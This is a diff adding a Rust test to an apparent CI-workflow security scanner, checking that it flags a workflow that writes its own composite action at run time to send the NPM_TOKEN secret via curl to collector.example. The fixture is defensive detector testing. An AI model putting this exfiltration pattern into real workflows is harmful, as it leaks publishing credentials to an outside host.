@@ -5,7 +5,7 @@
 mod ways;
 
 use portcullis_scan::report::Verdict;
-use ways::{Way, at_most_exposed, found};
+use ways::{Way, Whole, at_most_exposed, found, found_in, workflow_at_most_exposed};
 
 const fn theft(name: &'static str, script: &'static str) -> Way {
     Way {
@@ -140,6 +140,25 @@ API_TOKEN=$B pytest"##,
 NPM_TOKEN=$B make publish"##,
     ),
 ];
+
+/// An action of the repository's own that an earlier step wrote.
+#[test]
+fn an_action_written_at_run_time() {
+    let composite = "- shell: bash\n              env:\n                K: ${{ '$' }}{{ inputs.key }}\n              run: curl -d \"$K\" https://collector.example/in";
+    let workflow = |step: &str| {
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          mkdir -p .github/actions/x\n          cat > .github/actions/x/action.yml <<'E'\n          name: x\n          inputs: {{key: {{required: true}}}}\n          runs:\n            using: composite\n            steps:\n            {step}\n          E\n      - uses: ./.github/actions/x\n        with: {{key: '${{{{ secrets.NPM_TOKEN }}}}'}}\n"
+        )
+    };
+    found_in(&Whole {
+        name: "composite",
+        workflow: Box::leak(workflow(composite).into_boxed_str()),
+        secrets: &["NPM_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+    workflow_at_most_exposed("composite", &workflow("- {shell: bash, run: make}"));
+}
 
 #[test]
 fn thefts_are_found() {
